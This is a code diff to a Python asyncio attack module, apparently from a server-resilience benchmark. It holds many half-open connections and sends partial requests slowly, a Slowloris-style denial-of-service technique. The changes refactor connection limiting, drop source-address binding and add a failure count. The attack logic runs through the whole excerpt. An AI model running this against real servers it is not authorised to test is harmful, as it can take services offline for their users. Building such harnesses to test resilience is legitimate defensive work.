@@ -3,8 +3,8 @@
 import asyncio
 from functools import partial
 
-from roost.bench.attack.client import NoAnswerError
 from roost.bench.attack.target import AttackTarget
+from roost.bench.client import NoAnswerError
 
 HANDLES = 256
 CONNECTIONS = 300
@@ -22,20 +22,13 @@ PARTIAL_REQUESTS = [
 
 async def attack(target: AttackTarget, stop: asyncio.Event) -> None:
     host, _, port = target.address.rpartition(":")
-    attempts = 0
 
     async def hold(partial_request: bytes) -> None:
         """Hold a connection until the server closes it."""
-        nonlocal attempts
-        if attempts >= MAX_CONNECTIONS:
-            await stop.wait()
-            return
-        attempts += 1
         try:
-            reader, writer = await asyncio.open_connection(
-                host, int(port), local_addr=(target.source, 0)
-            )
+            reader, writer = await asyncio.open_connection(host, int(port))
         except OSError as error:
+            target.counts["failed"] += 1
             raise NoAnswerError("no connection") from error
         writer.write(partial_request)
         try:
@@ -55,4 +48,4 @@ async def attack(target: AttackTarget, stop: asyncio.Event) -> None:
         await asyncio.sleep(BYTE_INTERVAL)
 
     tasks = [partial(hold, PARTIAL_REQUESTS[i % len(PARTIAL_REQUESTS)]) for i in range(CONNECTIONS)]
-    await target.repeat_all(stop, list(tasks))
+    await target.repeat_all(stop, list(tasks), MAX_CONNECTIONS)
